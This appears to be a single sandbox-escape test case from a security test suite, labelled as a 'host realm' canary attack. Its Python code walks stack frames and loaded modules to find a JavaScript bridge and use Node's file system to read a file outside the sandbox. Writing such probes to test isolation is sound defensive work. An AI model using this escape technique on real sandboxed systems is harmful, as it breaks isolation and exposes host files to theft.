# attack {"class":"host realm","attempt":"the frames and functions beneath the program, and every module that they hold","effect":"canary","ends":["ok","denied","threw"],"bare":true}
import sys
path = "{{outside.file}}"
seen = []
frame = sys._getframe()
while frame is not None:
    seen += [frame.f_globals, frame.f_locals, frame.f_builtins]
    frame = frame.f_back
for names in seen:
    for name, value in list(names.items()):
        closure = getattr(value, "__closure__", None) or ()
        loader = getattr(value, "__globals__", {}).get("sys", sys)
        for module in list(loader.modules.values()):
            run_js = getattr(module, "run_js", None)
            if run_js is not None:
                print(run_js("process.getBuiltinModule('fs').readFileSync('%s', 'utf8')" % path))
                raise SystemExit
